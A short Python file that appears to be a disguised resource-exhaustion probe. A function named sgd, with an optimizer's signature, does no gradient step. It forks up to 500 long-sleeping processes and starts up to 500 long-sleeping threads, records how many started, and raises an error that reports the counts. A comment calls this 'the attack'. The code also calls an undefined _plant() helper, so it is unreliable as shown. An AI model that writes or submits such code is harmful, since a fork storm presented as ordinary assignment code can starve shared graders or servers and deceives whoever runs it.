# A storm of 500 processes, then of 500 threads, each kept alive; counts how many started.
import json
import os
import threading
import time


_FOUND = []  # the attack runs once; every check of sgd is told the same


def sgd(w, dw, config=None):
    _plant()
    if _FOUND:
        raise RuntimeError(_FOUND[0])
    forks = 0
    for _ in range(500):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(3600)
            os._exit(0)
        forks += 1
    threads = 0
    for _ in range(500):
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        except RuntimeError:
            break
        threads += 1
    _FOUND.append("started: " + json.dumps({"forks": forks, "threads": threads}))
    raise RuntimeError(_FOUND[0])
